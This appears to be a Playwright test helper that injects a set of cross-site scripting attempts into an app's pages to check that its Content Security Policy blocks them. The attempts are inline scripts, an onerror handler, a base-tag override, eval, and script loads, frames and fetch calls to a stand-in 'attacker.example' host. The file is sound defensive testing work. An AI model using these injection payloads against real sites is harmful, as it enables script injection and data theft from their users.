// A page of the app into which somebody has managed to write, and what they try from there.

import type { Page } from '@playwright/test';

/** Where they would load from, and send to. Nobody needs to be there: the browser asks the test. */
const attacker = 'http://attacker.example';

/** Each says `done('…')` where it succeeds. Those with the nonce are what a script of the page itself could be tricked into. */
const attempts: Record<string, string> = {
  'an inline script': `<script>done('an inline script')</script>`,
  'a foreign script': `<script src="${attacker}/a foreign script"></script>`,
  'a script of this origin': `<script src="/a script of this origin"></script>`,
  'an event handler': `<img alt="" src="data:," onerror="done('an event handler')">`,
  'an inline style': `<style id="style">title { top: 7px }</style>
    <script nonce="{nonce}">getComputedStyle(document.querySelector('title')).top == '7px' && done('an inline style')</script>`,
  'another base': `<base href="${attacker}">
    <script nonce="{nonce}">document.baseURI.startsWith('${attacker}') && done('another base')</script>`,
  'a foreign frame': `<iframe src="${attacker}/a foreign frame"></iframe>`,
  'eval': `<script nonce="{nonce}">eval("done('eval')")</script>`,
  'a timer of text': `<script nonce="{nonce}">setTimeout("done('a timer of text')")</script>`,
  'a script put in': `<script nonce="{nonce}">
    document.head.append(Object.assign(document.createElement('script'), { src: '${attacker}/a script put in' }))</script>`,
  'another policy': `<script nonce="{nonce}">trustedTypes.createPolicy('another', {}) && done('another policy')</script>`,
  'a call elsewhere': `<script nonce="{nonce}">
    fetch('${attacker}/a call elsewhere').then(() => done('a call elsewhere'))</script>`,
};

export const allAttempts = Object.keys(attempts).sort();

/** Opens a page with all of them in it, and tells which succeed. `guarded` is false to see that they can. */
export async function openInjected(page: Page, path: string, { guarded }: { guarded: boolean }): Promise<Set<string>> {
  const succeeded = new Set<string>();
  await page.exposeFunction('done', (what: string) => void succeeded.add(what));
  await page.context().route(/attacker\.example|of%20this%20origin/, (route) => {
    const name = decodeURIComponent(new URL(route.request().url()).pathname.slice(1));
    const isFrame = route.request().resourceType() === 'document';
    return route.fulfill({
      headers: { 'access-control-allow-origin': '*' },
      contentType: isFrame ? 'text/html' : 'text/javascript',
      body: isFrame ? `<script>done('${name}')</script>` : `done('${name}')`,
    });
  });
  await page.route(path, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const nonce = /'nonce-([^']+)'/.exec(headers['content-security-policy']!)![1]!;
    if (!guarded) delete headers['content-security-policy'];
    const injected = Object.values(attempts).join('\n').replaceAll('{nonce}', nonce);
    await route.fulfill({ response, headers, body: (await response.text()).replace('</body>', `${injected}</body>`) });
  });
  await page.goto(path);
  return succeeded;
}
